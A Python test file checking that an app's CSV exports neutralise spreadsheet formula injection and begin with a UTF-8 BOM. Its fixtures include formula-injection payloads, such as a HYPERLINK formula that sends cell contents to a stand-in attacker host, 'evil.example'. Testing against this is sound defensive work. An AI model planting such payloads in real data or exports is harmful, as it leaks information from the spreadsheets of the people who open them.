"""CSV exports open safely in Excel and LibreOffice: no formulas from user text, UTF-8 BOM."""

from __future__ import annotations

import csv
import io

import pytest

from app.core.csvexport import csv_text, safe_cell
from tests.certificates.conftest import issue
from tests.conftest import login


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Ana Novak", "Ana Novak"),
        (-3, -3),
        (2.5, 2.5),
    ],
)
def test_formula_starts_are_neutralised(value, written):
    assert safe_cell(value) == written


def test_csv_text_starts_with_a_bom_and_keeps_letters():
    text = csv_text([["Ime"], ["Đurđa Šimić Čakovec"]])
    assert text.startswith("\ufeff")
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    assert "Đurđa Šimić Čakovec" in text


def test_a_learner_name_cannot_run_as_a_formula_in_hr_exports(app, client, courses, make_user):
    attacker = make_user(full_name='=HYPERLINK("http://evil.example/?"&A1,"Click")')
    issue(app, attacker)
    login(client, make_user(roles={"hr"}))
    for path in ("/hr/certificates.csv", "/hr/matrix.csv"):
        data = client.get(path).data
        assert data.startswith(b"\xef\xbb\xbf"), path
        cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
        assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells, path
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells), path
